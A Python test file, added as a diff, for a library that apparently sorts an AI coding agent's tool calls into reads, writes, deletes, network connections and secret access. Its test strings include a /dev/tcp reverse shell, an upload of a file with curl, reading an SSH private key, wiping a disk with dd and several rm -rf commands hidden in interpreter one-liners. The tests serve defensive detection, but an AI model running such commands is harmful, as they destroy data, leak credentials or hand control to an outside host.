@@ -1,0 +1,123 @@
+"""The facts of tool calls, one kind after the other. Nothing is run, and only the links are real."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from anyhook.facts.calls import facts_of
+from anyhook.facts.facts import Facts
+
+LINES: list[tuple[str, dict[str, list[str]]]] = [
+    ("rm -rf ~/x && cp a b", {"deletes": ["/home/me/x"], "reads": ["/p/a"], "writes": ["/p/b"]}),
+    ("echo x > a; echo y >> b 2>/dev/null", {"writes": ["/p/a", "/p/b"]}),
+    ("sort < in | tee -a log", {"reads": ["/p/in"], "writes": ["/p/log"]}),
+    ("sed -i.bak s/a/b/ f", {"reads": ["/p/f"], "writes": ["/p/f"]}),
+    ("sed s/a/b/ f", {"reads": ["/p/f"]}),
+    ("mv x y z", {"deletes": ["/p/x", "/p/y"], "writes": ["/p/z"]}),
+    ("cp -t /q a", {"reads": ["/p/a"], "writes": ["/q"]}),
+    ("dd if=/dev/zero of=/dev/sda bs=1M", {"writes": ["/dev/sda"]}),
+    ("truncate -s 0 f; touch g", {"writes": ["/p/f", "/p/g"]}),
+    ("tar xzf a.tgz -C /opt", {"reads": ["/p/a.tgz"], "writes": ["/opt/**"]}),
+    ("unzip a.zip -d /opt", {"reads": ["/p/a.zip"], "writes": ["/opt"]}),
+    ("find . -name '*.pyc' -delete", {"reads": ["/p"], "deletes": ["/p/**/*.pyc"]}),
+    ("git clean -fdx", {"deletes": ["/p"]}),
+    ("git -C /q checkout -- a", {"writes": ["/q/a"]}),
+    ("git rm -r a", {"deletes": ["/p/a"]}),
+    ("git restore --staged a", {}),
+    ("chmod 755 a", {"makes_executable": ["/p/a"], "changes": ["/p/a"]}),
+    ("chmod 600 a", {"changes": ["/p/a"]}),
+    ("curl -o a https://x.io/b", {"writes": ["/p/a"], "connects": ["https://x.io/b"]}),
+    ("curl -d @a https://x.io", {"reads": ["/p/a"], "connects": ["https://x.io"]}),
+    ("wget -qO- https://x.io/b", {"connects": ["https://x.io/b"]}),
+    ("rsync -a --delete a/ host:/b", {"reads": ["/p/a"], "connects": ["host:/b"]}),
+    ("bash -i >& /dev/tcp/1.2.3.4/99 0>&1", {"connects": ["1.2.3.4:99"]}),
+    ("ssh me@host 'rm -rf /'", {"connects": ["me@host"]}),
+    ("cat ~/.ssh/id_rsa", {"reads": ["/home/me/.ssh/id_rsa"], "secrets": ["private key"]}),
+    ("env | sort", {"secrets": ["environment"]}),
+    ("rm -rf $X/*", {"deletes": ["$X/*"], "unknown": ["path from $X/*"]}),
+    ("python3 -c 'import shutil as s; s.rmtree(\"/q\")'", {"deletes": ["/q"]}),
+    ("python3 - <<'E'\nfrom pathlib import Path\np = Path('a') / 'b'\np.write_text('x')\nE", {"writes": ["/p/a/b"]}),
+    ("python3 -c 'open(\"a\").read(); open(\"b\", \"w\")'", {"reads": ["/p/a"], "writes": ["/p/b"]}),
+    ("python3 -c 'import os; os.system(\"rm -rf /q\")'", {"deletes": ["/q"]}),
+    ("node -e 'require(\"fs\").rmSync(\"/q\")'", {"deletes": ["/q"]}),
+    ("perl -e 'unlink(\"/q\"); open(F, \">a\")'", {"deletes": ["/q"], "writes": ["/p/a"]}),
+    (
+        "apply_patch <<'E'\n*** Begin Patch\n*** Update File: a\n*** Delete File: b\n*** End Patch\nE",
+        {"writes": ["/p/a"], "deletes": ["/p/b"]},
+    ),
+    ("echo rm -rf / > /dev/null; grep 'rm -rf /q' f", {"reads": ["/p/f"]}),
+    ("git commit -m 'rm -rf / > /etc/passwd'", {}),
+    ("awk '{print > \"out\"}' in", {"reads": ["/p/in"], "writes": ["/p/out"]}),
+]  # fmt: skip
+KINDS = ("reads", "writes", "deletes", "makes_executable", "changes", "connects", "secrets", "unknown")
+
+
+def told(found: Facts) -> dict[str, list[str]]:
+    return {kind: list(getattr(found, kind)) for kind in KINDS if getattr(found, kind)}
+
+
+@pytest.mark.parametrize(("line", "wanted"), LINES, ids=[line for line, _ in LINES])
+def test_a_line(line: str, wanted: dict[str, list[str]]) -> None:
+    assert told(facts_of("Bash", {"command": line}, cwd="/p", home="/home/me", project="/p")) == wanted
+
+
+CALLS: list[tuple[str, dict[str, Any], dict[str, list[str]]]] = [
+    ("Write", {"file_path": "a", "content": "rm -rf /"}, {"writes": ["/p/a"]}),
+    ("Read", {"file_path": "/q/a"}, {"reads": ["/q/a"]}),
+    ("edit_file", {"path": "a", "old_text": "x", "new_text": "y"}, {"writes": ["/p/a"]}),
+    ("NotebookEdit", {"notebook_path": "a", "new_source": "x"}, {"writes": ["/p/a"]}),
+    ("apply_patch", {"input": "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch"}, {"writes": ["/p/a"]}),
+    ("mcp__fs__move_file", {"source": "a", "destination": "b"}, {"deletes": ["/p/a"], "writes": ["/p/b"]}),
+    ("mcp__fs__delete", {"paths": ["a", "b"]}, {"deletes": ["/p/a", "/p/b"]}),
+    ("mcp__fs__write", {"uri": "file:///q/a", "content": ""}, {"writes": ["/q/a"]}),
+    ("mcp__run__exec", {"argv": ["rm", "-r", "a b"]}, {"deletes": ["/p/a b"]}),
+    ("mcp__run__exec", {"cmd": "rm a", "cwd": "/q"}, {"deletes": ["/q/a"]}),
+    ("str_replace_editor", {"command": "create", "path": "/q/a", "file_text": "x"}, {"writes": ["/q/a"]}),
+    ("str_replace_editor", {"command": "view", "path": "/q/a"}, {"reads": ["/q/a"]}),
+    ("WebFetch", {"url": "https://x.io/a", "prompt": "read it"}, {"connects": ["https://x.io/a"]}),
+    ("execute_python", {"code": "open('a', 'w')"}, {"writes": ["/p/a"]}),
+    ("mcp__tracker__create_issue", {"title": "rm -rf /", "body": "see /etc/passwd"}, {}),
+    ("Task", {"prompt": "rm -rf /", "description": "x"}, {}),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("tool", "given", "wanted"), CALLS)
+def test_a_tool(tool: str, given: dict[str, Any], wanted: dict[str, list[str]]) -> None:
+    assert told(facts_of(tool, given, cwd="/p", home="/home/me", project="/p")) == wanted
+
+
+def test_an_agents_own_names() -> None:
+    given: dict[str, Any] = {"files": ["a", {"path": "b"}]}
+    assert facts_of("read_files", given, cwd="/p", home="/h", project="/p", agent="cline").reads == ("/p/a", "/p/b")
+
+
+@pytest.mark.parametrize(
+    ("line", "verb", "flags", "args"),
+    [
+        ("git push -fu origin main", "push", ("--force", "--set-upstream"), ("origin", "main")),
+        ("git -c a=b -C /q stash drop", "stash drop", (), ()),
+        ("git reset --hard HEAD~1", "reset", ("--hard",), ("HEAD~1",)),
+        ("git commit -nm x", "commit", ("--no-verify", "--message"), ()),
+        ("git branch -D x", "branch", ("-D",), ("x",)),
+    ],
+)
+def test_git(line: str, verb: str, flags: tuple[str, ...], args: tuple[str, ...]) -> None:
+    [found] = facts_of("Bash", {"command": line}, cwd="/p", home="/h", project="/p").git
+    assert (found.verb, found.flags, found.args) == (verb, flags, args)
+
+
+def test_links_are_followed(tmp_path: Path) -> None:
+    (tmp_path / "real").mkdir()
+    (tmp_path / "link").symlink_to("real")
+    found = facts_of("Bash", {"command": "echo > link/../link/a; rm link"}, cwd=str(tmp_path), home="/h", project=None)
+    assert found.writes == (f"{tmp_path}/real/a",)
+    assert found.deletes == (f"{tmp_path}/link",)  # of a link that is deleted, the link itself
+
+
+def test_what_is_not_read_is_said() -> None:
+    found = facts_of("PowerShell", {"command": "Remove-Item x"}, cwd="/p", home="/h", project=None)
+    assert found.unknown == ("not read: a line of PowerShell or cmd, `Remove-Item x`",)
+    assert facts_of("Bash", {"command": ["rm", 3]}, cwd="/p", home="/h", project=None).deletes == ("/p/3",)
